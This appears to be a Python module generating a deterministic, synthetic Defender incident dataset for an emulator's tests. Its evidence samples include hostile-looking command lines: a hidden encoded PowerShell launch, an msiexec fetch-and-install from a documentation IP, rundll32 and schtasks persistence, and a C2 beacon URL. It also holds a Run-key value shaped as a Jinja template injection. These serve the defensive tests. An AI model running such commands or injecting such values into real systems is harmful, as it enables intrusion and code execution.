"""The incident dataset: the documented sample incident 2972395 plus 300
generated ones, deterministic (seeded), with alerts and evidence. ``resize``
rebuilds it with more generated incidents (the CLI's ``--incidents``), ``reset``
rebuilds it as it was at start.

Incidents change only through ``create_incident`` and ``update_incident`` (PATCH,
comments, the control API), under ``LOCK``; readers take ``snapshot()``. Every
change is recorded in ``CHANGES``, the oracle for "was each change delivered once".

KNOWN maps a test case to the id of an incident built for it, so tests can
ask for "an awaitingAction incident" without searching. ``matching_ids``
answers "which ids does this $filter select", the oracle for list tests.
"""

import copy
import datetime
import hashlib
import random
import threading
import uuid

from . import model, wire
from .directory import TENANT_ID
from .odata import parse_filter
from .themes import MDE, MDO, THEMES, THEMES_BY_NAME

PORTAL = "https://security.microsoft.com"
GENERATED = 300
_SEED = 20260105
_START = datetime.datetime(2025, 1, 6, tzinfo=datetime.timezone.utc)
_END = datetime.datetime(2026, 11, 15, tzinfo=datetime.timezone.utc)

SEED_ID = "2972395"
KNOWN = {
    "seed": SEED_ID,                # medium, active, truePositive / multiStagedAttack
    "awaitingAction": "29",        # status awaitingAction (reads unknownFutureValue without Prefer)
    "highActive": "300",
    "mediumInProgress": "299",
    "lowActive": "298",
    "informational": "297",         # informational, active
    "resolved": "296",              # high, resolved, with resolvingComment
    "redirected": "295",            # redirected, redirectIncidentId = KNOWN["redirectTarget"]
    "redirectTarget": "300",
    "unknownSeverity": "294",
    "obrien": "293",                # assignedTo o'brien@contoso.com
    "unassigned": "292",            # assignedTo null
    "sameLastUpdate": ("291", "290"),  # identical lastUpdateDateTime, for polling boundaries
    "evidence": "289",              # three alerts: one device twice, two users, a template-looking registry value
}

ANALYSTS = ["KaiC@contoso.com", "DavidS@contoso.com", "AdeleV@contoso.com", "NestorW@contoso.com",
            "o'brien@contoso.com", "soc-tier1@contoso.com"]
USERS = ["MeganB", "AlexW", "PattiF", "LeeG", "JoniS", "LynneR", "IsaiahL", "GradyA", "DiegoS", "MiriamG"]
DEVICES = ["desktop-4h2k9", "laptop-fin-0231", "wks-hr-114", "srv-file02", "srv-dc01", "laptop-eng-0877",
           "wks-sales-052", "desktop-mkt-19", "srv-sql03", "laptop-exec-007"]
COUNTRIES = ["US", "NL", "DE", "BR", "NG", "RU", "SG", "GB", "IN", "FR"]
CUSTOM_TAGS = ["Demo", "VIP", "Finance", "Pentest", "Tier-1", "Needs-Review", "Exec"]
SOC_APP = "API-App:3c5e1f7a-8b2d-4e9c-a1f6-0d7b4c2e9a58"

# Determinations that fit each classification (Defender rejects other pairs).
_DETERMINATIONS = {
    "truePositive": ["multiStagedAttack", "malware", "phishing", "compromisedAccount",
                     "maliciousUserActivity", "unwantedSoftware", "other"],
    "falsePositive": ["notMalicious", "notEnoughDataToValidate", "other"],
    "informationalExpectedActivity": ["securityTesting", "lineOfBusinessApplication",
                                      "confirmedActivity", "other"],
}
_RESOLVING = {
    "truePositive": "Contained: device isolated, credentials reset, IOCs blocked.",
    "falsePositive": "Benign: activity matches an approved administrative tool.",
    "informationalExpectedActivity": "Expected: scheduled red team exercise.",
}


def _stamp(moment, rng):
    """Graph style timestamp: seconds plus 7 fractional digits, UTC."""
    return moment.strftime("%Y-%m-%dT%H:%M:%S") + f".{rng.randrange(10_000_000):07d}Z"


def _guid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _hex(rng, bits):
    return f"{rng.getrandbits(bits):0{bits // 4}x}"


def _ip(rng):
    net = rng.choice(["198.51.100", "203.0.113", "192.0.2"])  # documentation ranges
    return f"{net}.{rng.randrange(1, 255)}"


# -- evidence --------------------------------------------------------------

def _evidence_common(kind, ctx, rng, verdict):
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}Evidence",
        "createdDateTime": ctx["created"],
        "verdict": verdict,
        "remediationStatus": rng.choice(["none", "remediated", "prevented", "blocked"]),
        "remediationStatusDetails": None,
        "roles": [],
        "detailedRoles": [],
        "tags": [],
    }


def _user_account(ctx):
    return {
        "accountName": ctx["user"],
        "domainName": "CONTOSO",
        "userSid": ctx["user_sid"],
        "azureAdUserId": ctx["user_oid"],
        "userPrincipalName": f"{ctx['user'].lower()}@contoso.com",
        "displayName": ctx["user"],
    }


def _file_details(ctx, rng):
    name = rng.choice(["update.exe", "invoice_0423.js", "svch0st.exe", "payload.dll", "setup_x64.msi"])
    return {
        "sha1": _hex(rng, 160),
        "sha256": _hex(rng, 256),
        "fileName": name,
        "filePath": rng.choice(["C:\\Users\\Public\\", f"C:\\Users\\{ctx['user']}\\AppData\\Local\\Temp\\",
                                "E:\\"]),
        "fileSize": rng.randrange(20_000, 8_000_000),
        "filePublisher": None,
        "signer": None,
        "issuer": None,
    }


def _evidence(kind, ctx, rng):
    verdict = rng.choice(["suspicious", "malicious", "malicious", "unknown"])
    ev = _evidence_common(kind, ctx, rng, verdict)
    if kind == "device":
        ev["roles"] = ["compromised"] if verdict == "malicious" else []
        ev.update({
            "deviceDnsName": f"{ctx['device']}.contoso.local",
            "firstSeenDateTime": "2024-09-02T10:14:51.0000000Z",
            "mdeDeviceId": device_ids(ctx["device"])[0],
            "azureAdDeviceId": device_ids(ctx["device"])[1],
            "osPlatform": "Windows11" if "srv" not in ctx["device"] else "WindowsServer2022",
            "osBuild": 22631,
            "version": "23H2",
            "healthStatus": "active",
            "riskScore": rng.choice(["low", "medium", "high"]),
            "rbacGroupName": "Contoso workstations",
            "onboardingStatus": "onboarded",
            "defenderAvStatus": "updated",
            "loggedOnUsers": [{"accountName": ctx["user"], "domainName": "CONTOSO"}],
        })
    elif kind == "user":
        ev["roles"] = ["compromised"] if verdict == "malicious" else []
        ev["userAccount"] = _user_account(ctx)
    elif kind == "process":
        ev.update({
            "processId": rng.randrange(1000, 20000),
            "parentProcessId": rng.randrange(500, 1000),
            "processCommandLine": rng.choice([
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                "cmd.exe /c msiexec /q /i http://198.51.100.23/x.msi",
                "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer",
                "schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc onlogon",
            ]),
            "processCreationDateTime": ctx["created"],
            "parentProcessCreationDateTime": ctx["created"],
            "detectionStatus": rng.choice(["detected", "blocked", "prevented"]),
            "mdeDeviceId": device_ids(ctx["device"])[0],
            "imageFile": _file_details(ctx, rng),
            "parentProcessImageFile": {"fileName": "explorer.exe", "filePath": "C:\\Windows\\",
                                       "sha1": _hex(rng, 160), "sha256": _hex(rng, 256)},
            "userAccount": _user_account(ctx),
        })
    elif kind == "file":
        ev.update({
            "detectionStatus": rng.choice(["detected", "blocked", "prevented"]),
            "mdeDeviceId": device_ids(ctx["device"])[0],
            "fileDetails": _file_details(ctx, rng),
        })
    elif kind == "ip":
        ev.update({"ipAddress": ctx["ip"], "countryLetterCode": ctx["country"]})
    elif kind == "url":
        ev["url"] = rng.choice(["http://198.51.100.77/login.microsoftonline.com.secure/",
                                "https://invoice-view.example.net/doc?id=8812",
                                "http://203.0.113.12/c2/beacon"])
    elif kind == "mailbox":
        ev.update({
            "primaryAddress": f"{ctx['user'].lower()}@contoso.com",
            "displayName": ctx["user"],
            "userAccount": _user_account(ctx),
        })
    elif kind == "analyzedMessage":
        ev.update({
            "networkMessageId": _guid(rng),
            "internetMessageId": f"<{_hex(rng, 64)}@mail.example.net>",
            "subject": rng.choice(["Action required: password expires today", "Invoice #88213 overdue",
                                   "Shared document: Q3 bonus plan"]),
            "language": "en",
            "senderIp": ctx["ip"],
            "recipientEmailAddress": f"{ctx['user'].lower()}@contoso.com",
            "p1Sender": {"emailAddress": ctx["sender"], "displayName": "IT Service Desk",
                         "domainName": ctx["sender"].split("@")[1]},
            "deliveryAction": "delivered",
            "deliveryLocation": "inbox",
            "antiSpamDirection": "inbound",
            "attachmentsCount": rng.randrange(0, 2),
            "urlCount": 1,
            "receivedDateTime": ctx["created"],
        })
    return ev


# -- alerts and incidents --------------------------------------------------

def _alert_status(incident_status, rng):
    return {
        "resolved": "resolved",
        "redirected": "resolved",
        "inProgress": rng.choice(["inProgress", "new"]),
        "awaitingAction": "inProgress",
    }.get(incident_status, "new")


def _alert_id(service, rng):
    if service == MDE:
        return f"da{rng.randrange(10**17, 10**18)}_{rng.randrange(-2**31, 2**31)}"
    prefix = {MDO: "fa"}.get(service, rng.choice(["ca", "ad", "aa"]))
    return prefix + _hex(rng, 128)


def _alerts(incident, theme, ctx, rng, count):
    picks = theme["alerts"][:count] if count <= len(theme["alerts"]) else theme["alerts"]
    created = _parse(incident["createdDateTime"])
    updated = _parse(incident["lastUpdateDateTime"])
    alerts = []
    for n, (title, category, service, detection, technique) in enumerate(picks):
        made = min(created + datetime.timedelta(minutes=7 * n), updated)
        aid = _alert_id(service, rng)
        threat, family = theme["threat"]
        alerts.append({
            "@odata.type": "#microsoft.graph.security.alert",
            "id": aid,
            "providerAlertId": aid,
            "incidentId": incident["id"],
            "status": _alert_status(incident["status"], rng),
            "severity": incident["severity"] if incident["severity"] != "unknown" else "low",
            "classification": incident["classification"],
            "determination": incident["determination"],
            "serviceSource": service,
            "detectionSource": detection,
            "detectorId": _guid(rng),
            "tenantId": incident["tenantId"],
            "title": title,
            "description": theme["description"].format(**ctx),
            "recommendedActions": theme["actions"],
            "category": category,
            "assignedTo": incident["assignedTo"],
            "alertWebUrl": f"{PORTAL}/alerts/{aid}?tid={incident['tenantId']}",
            "incidentWebUrl": incident["incidentWebUrl"],
            "actorDisplayName": None,
            "threatDisplayName": threat,
            "threatFamilyName": family,
            "mitreTechniques": [technique],
            "createdDateTime": _stamp(made, rng),
            "lastUpdateDateTime": incident["lastUpdateDateTime"],
            "resolvedDateTime": incident["lastUpdateDateTime"] if incident["status"] == "resolved" else None,
            "firstActivityDateTime": _stamp(made - datetime.timedelta(minutes=3), rng),
            "lastActivityDateTime": _stamp(made, rng),
            "comments": [],
            "systemTags": [],
            "evidence": [_evidence(kind, dict(ctx, created=_stamp(made, rng)), rng)
                         for kind in theme["evidence"][: rng.randrange(2, len(theme["evidence"]) + 1)]],
        })
    return alerts


def _parse(stamp):
    return datetime.datetime.strptime(stamp[:19], "%Y-%m-%dT%H:%M:%S").replace(tzinfo=datetime.timezone.utc)


def device_ids(name):
    """(Defender machine id, Entra device id) of the device named ``name``: stable across incidents."""
    digest = hashlib.sha1(name.encode()).hexdigest()
    return digest, str(uuid.UUID(hashlib.md5(name.encode()).hexdigest()))


def user_object_id(name):
    """The Entra object id of the user named ``name``: stable across incidents, so that every alert names a user
    by one id and Graph's users routes (users.py) find the users of the evidence."""
    return str(uuid.UUID(hashlib.sha256(b"user:" + name.encode()).hexdigest()[:32], version=4))


def _context(rng):
    user = rng.choice(USERS)
    sid = f"S-1-5-21-1423076537-2836495107-1189536415-{rng.randrange(1100, 9999)}"
    _guid(rng)  # the random object id users once had: drawn and dropped, so that the rest of the dataset stays
    return {
        "user": user,
        "user_sid": sid,
        "user_oid": user_object_id(user),
        "device": rng.choice(DEVICES),
        # Drawn and dropped, so that the rest of the dataset stays as it was: a device's ids follow its name
        # (device_ids), one machine per name, as Defender shows the same machine in every incident.
        "unused": (_hex(rng, 160), _guid(rng)),
        "ip": _ip(rng),
        "country": rng.choice(COUNTRIES),
        "sender": rng.choice(["it-helpdesk@c0ntoso-support.example", "billing@invoices.example.net"]),
    }


def _triage(incident, rng, status):
    """Set status and the fields that must agree with it."""
    incident["status"] = status
    if status != "redirected":
        incident["redirectIncidentId"] = None
    if status in ("resolved", "redirected") or (status == "inProgress" and rng.random() < 0.3):
        classification = rng.choice(list(_DETERMINATIONS))
        incident["classification"] = classification
        incident["determination"] = rng.choice(_DETERMINATIONS[classification])
    else:
        incident["classification"] = "unknown"
        incident["determination"] = "unknown"
    incident["resolvingComment"] = (
        _RESOLVING[incident["classification"]] if status == "resolved" else None
    )


def _generated_incident(number, created, rng):
    theme = rng.choice(THEMES)
    ctx = _context(rng)
    updated = min(created + datetime.timedelta(minutes=rng.randrange(5, 60 * 24 * 40)), _END)
    iid = str(number)
    incident = {
        "id": iid,
        "displayName": rng.choice(theme["titles"]),
        "description": theme["description"].format(**ctx),
        "summary": None,
        "assignedTo": None if rng.random() < 0.3 else rng.choice(ANALYSTS),
        "severity": rng.choice(theme["severities"]),
        "customTags": rng.sample(CUSTOM_TAGS, rng.choice([0, 0, 1, 2])),
        "systemTags": [t for t in theme["system_tags"] if rng.random() < 0.7],
        "comments": [],
        "createdDateTime": _stamp(created, rng),
        "lastUpdateDateTime": _stamp(updated, rng),
        "lastModifiedBy": rng.choice(ANALYSTS + [SOC_APP, "Automation"]),
        "redirectIncidentId": None,
        "incidentWebUrl": f"{PORTAL}/incidents/{iid}?tid={TENANT_ID}",
        "tenantId": TENANT_ID,
        "priorityScore": None if rng.random() < 0.1 else rng.randrange(0, 101),
        "recommendedActions": theme["actions"],
        "recommendedHuntingQueries": [{"kqlText": theme["kql"].format(**ctx)}],
    }
    status = rng.choices(["resolved", "active", "inProgress", "redirected", "awaitingAction"],
                         weights=[45, 30, 15, 6, 4])[0]
    _triage(incident, rng, status)
    if "Defender Experts" in incident["systemTags"]:
        incident["summary"] = ("Defender Experts has identified some malicious activity. This incident has "
                               "been raised for your awareness and should be investigated as normal.")
    for dummy in range(rng.choice([0, 0, 1, 2])):
        incident["comments"].append({
            "@odata.type": "microsoft.graph.security.alertComment",
            "comment": rng.choice(["Escalated to tier 2.", "User contacted, confirms no travel.",
                                   "Device isolated pending forensics.", "Linked to change ticket CHG0042871."]),
            "createdByDisplayName": rng.choice(ANALYSTS),
            "createdDateTime": _stamp(updated, rng),
        })
    return incident, theme, ctx


def _seed_incident(rng):
    """Incident 2972395 as documented, with camelCase enums and v1.0 comments.

    tenantId and the portal link use the emulator's tenant so that every
    incident belongs to the tenant the client authenticated against.
    """
    incident = {
        "id": SEED_ID,
        "displayName": "Multi-stage incident involving Initial access & Command and control on multiple "
                       "endpoints reported by multiple sources",
        "description": "Microsoft observed Raspberry Robin worm activity spreading through infected USB on "
                       "multiple devices in your environment. From available intel, these infections could "
                       "be a potential precursor activity to ransomware deployment. ...",
        "summary": "Defender Experts has identified some malicious activity. This incident has been raised "
                   "for your awareness and should be investigated as normal.",
        "assignedTo": "KaiC@contoso.com",
        "classification": "truePositive",
        "determination": "multiStagedAttack",
        "severity": "medium",
        "status": "active",
        "customTags": ["Demo"],
        "systemTags": ["Defender Experts"],
        "comments": [{
            "@odata.type": "microsoft.graph.security.alertComment",
            "comment": "Demo incident",
            "createdByDisplayName": "DavidS@contoso.com",
            "createdDateTime": "2021-09-30T12:07:37.2756993Z",
        }],
        "createdDateTime": "2021-08-13T08:43:35.5533333Z",
        "lastUpdateDateTime": "2021-09-30T09:35:45.1133333Z",
        "lastModifiedBy": "DavidS@contoso.onmicrosoft.com",
        "resolvingComment": None,
        "redirectIncidentId": None,
        "incidentWebUrl": f"{PORTAL}/incidents/{SEED_ID}?tid={TENANT_ID}",
        "tenantId": TENANT_ID,
        "priorityScore": None,
        "recommendedActions": "Immediate Recommendations:  1.    Block untrusted and unsigned processes that "
                              "run from USB (ASR Rule) 2.    Verify if the ASR rule is turned on for the "
                              "devices and evaluate whether the ASR . ...",
        "recommendedHuntingQueries": [{
            "kqlText": "AlertInfo   | where Timestamp >= datetime(2022-10-20 06:00:52.9644915)   | where "
                       "Title == 'Potential Raspberry Robin worm command'  | join AlertEvidence on AlertId"
                       "   | distinct DeviceId"
        }],
    }
    return incident, THEMES_BY_NAME["usb-worm"], _context(rng)


def _apply_known_cases(incidents, rng):
    def set_case(key, **fields):
        inc = incidents[KNOWN[key]]
        status = fields.pop("status", None)
        if status:
            _triage(inc, rng, status)
        inc.update(fields)

    set_case("awaitingAction", status="awaitingAction", severity="medium")
    set_case("highActive", status="active", severity="high", assignedTo="KaiC@contoso.com")
    set_case("mediumInProgress", status="inProgress", severity="medium")
    set_case("lowActive", status="active", severity="low")
    set_case("informational", status="active", severity="informational")
    set_case("resolved", status="resolved", severity="high")
    set_case("redirected", status="redirected", redirectIncidentId=KNOWN["redirectTarget"])
    set_case("unknownSeverity", severity="unknown")
    set_case("obrien", assignedTo="o'brien@contoso.com")
    set_case("unassigned", assignedTo=None)
    first, second = KNOWN["sameLastUpdate"]
    incidents[second]["lastUpdateDateTime"] = incidents[first]["lastUpdateDateTime"]


def _evidence_case(incident, alerts):
    """The alerts of KNOWN["evidence"], evidence written out by hand (the filter's oracle): alert 1 and 2 name
    the same device, alert 1 and 3 MeganB, alert 2 AlexW; alert 2 also a registry value an attacker planted
    in a Run key, its text shaped like a Jinja template (it must reach a play as data, never rendered)."""
    rng = random.Random(_SEED + 18)
    ctx = dict(_context(rng), user="MeganB", user_oid=user_object_id("MeganB"), device="laptop-fin-0231",
               created=alerts[0]["createdDateTime"])
    _guid(rng)  # AlexW's random object id of old, dropped like _context's
    alex = dict(ctx, user="AlexW", user_sid=ctx["user_sid"][:-4] + "1187", user_oid=user_object_id("AlexW"))
    registry = dict(_evidence_common("registryValue", ctx, rng, "malicious"), mdeDeviceId=device_ids(ctx["device"])[0],
                    registryHive="HKEY_CURRENT_USER", registryKey="SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                    registryValueName="Updater", registryValueType="String",
                    registryValue="powershell -w hidden -c \"{{ lookup('pipe', 'id') }}\"")
    evidence = [[_evidence("device", ctx, rng), _evidence("user", ctx, rng)],
                [_evidence("device", ctx, rng), _evidence("user", alex, rng), registry],
                [_evidence("user", ctx, rng), _evidence("ip", ctx, rng)]]
    made = []
    for items in evidence:
        alert = copy.deepcopy(alerts[0])
        alert["id"] = alert["providerAlertId"] = _alert_id(alert["serviceSource"], rng)
        alert["alertWebUrl"] = f"{PORTAL}/alerts/{alert['id']}?tid={incident['tenantId']}"
        alert["evidence"] = items
        made.append(alert)
    return made


def _build(generated=GENERATED):
    rng = random.Random(_SEED)
    span = (_END - _START).total_seconds()
    moments = sorted(_START + datetime.timedelta(seconds=rng.uniform(0, span)) for dummy in range(generated))
    built = [_seed_incident(rng)]
    built += [_generated_incident(n, moment, rng) for n, moment in enumerate(moments, start=1)]
    incidents = {entry[0]["id"]: entry[0] for entry in built}
    # Random redirect targets: an incident merged into a later one (the newest into the one before).
    for inc in incidents.values():
        if inc["status"] == "redirected" and inc["id"] != SEED_ID:
            number = int(inc["id"])
            inc["redirectIncidentId"] = str(rng.randrange(number, generated) + 1 if number < generated else number - 1)
    _apply_known_cases(incidents, rng)
    alerts = {inc["id"]: _alerts(inc, theme, ctx, rng, 3 if inc["id"] == SEED_ID else rng.randrange(1, 4))
              for inc, theme, ctx in built}
    alerts[KNOWN["evidence"]] = _evidence_case(incidents[KNOWN["evidence"]], alerts[KNOWN["evidence"]])
    ordered = sorted(incidents.values(), key=lambda i: (i["createdDateTime"], int(i["id"])), reverse=True)
    return {inc["id"]: inc for inc in ordered}, alerts


# Newest first, which is the order Graph lists incidents in.
INCIDENTS, ALERTS = _build()
LOCK = threading.RLock()
CHANGES = []  # {"id", "change": "created" | "updated", "lastUpdateDateTime"}, in the order made
_SIZE = [len(INCIDENTS)]


def snapshot():
    """The incidents, newest first, as a list that later changes cannot disturb."""
    with LOCK:
        return list(INCIDENTS.values())


def now_stamp(moment=None):
    """Graph's timestamp format (7 fractional digits) for now, or for ``moment``."""
    moment = moment or wire.graph_now()
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


def update_incident(incident_id, changes, modified_by=None, at=None):
    """Apply ``changes`` (Graph property names) to a stored incident, as a write to Graph does.

    lastUpdateDateTime becomes ``at`` (a Graph timestamp) or now. Returns a copy of the
    incident, or None when there is no such incident.
    """
    with LOCK:
        incident = INCIDENTS.get(incident_id)
        if incident is None:
            return None
        incident.update(copy.deepcopy(changes))
        incident["lastUpdateDateTime"] = at or now_stamp()
        if modified_by:
            incident["lastModifiedBy"] = modified_by
        CHANGES.append({"id": incident_id, "change": "updated", "lastUpdateDateTime": incident["lastUpdateDateTime"]})
        return copy.deepcopy(incident)


def create_incident(fields=None, at=None):
    """A new incident (a copy of incident 300 with a new id), created ``at`` or now; returns a copy."""
    with LOCK:
        number = max(int(i) for i in INCIDENTS if i.isdigit() and i != SEED_ID) + 1
        iid = str(number)
        incident = copy.deepcopy(INCIDENTS[KNOWN["highActive"]])
        stamp = at or now_stamp()
        incident.update(id=iid, createdDateTime=stamp, lastUpdateDateTime=stamp, comments=[], customTags=[],
                        incidentWebUrl=f"{PORTAL}/incidents/{iid}?tid={TENANT_ID}", lastModifiedBy="Microsoft 365 Defender")
        incident.update(copy.deepcopy(fields or {}))
        ALERTS[iid] = []
        ordered = sorted(list(INCIDENTS.values()) + [incident], key=lambda i: (i["createdDateTime"], int(i["id"])),
                         reverse=True)
        INCIDENTS.clear()
        INCIDENTS.update((i["id"], i) for i in ordered)
        CHANGES.append({"id": iid, "change": "created", "lastUpdateDateTime": stamp})
        return copy.deepcopy(incident)


def reset():
    """The dataset as it was when the emulator started; the record of changes emptied."""
    with LOCK:
        incidents, alerts = _build(_SIZE[0] - 1)
        INCIDENTS.clear()
        INCIDENTS.update(incidents)
        ALERTS.clear()
        ALERTS.update(alerts)
        del CHANGES[:]
        wire.CLOCK_SKEW[0] = 0.0


def resize(total):
    """Rebuild the dataset with ``total`` incidents (the seed incident and total - 1 generated).

    Generated incidents differ from the default ones, but the KNOWN cases are set on the
    same ids, so KNOWN holds. The dicts are updated in place: modules that imported
    INCIDENTS and ALERTS see the new dataset.
    """
    if total < GENERATED + 1:
        raise ValueError(f"the dataset needs at least {GENERATED + 1} incidents (the known test cases), not {total}")
    _SIZE[0] = total
    reset()


def matching_ids(filter_text=None, include_unknown_enum_members=True):
    """Ids (newest first) that a list request with this $filter should return."""
    records = [model.visible_record(i, include_unknown_enum_members) for i in snapshot()]
    if filter_text:
        predicate = parse_filter(filter_text, model.filter_fields(include_unknown_enum_members),
                                 model.properties("beta"))
        records = [r for r in records if predicate(r)]
    return [r["id"] for r in records]
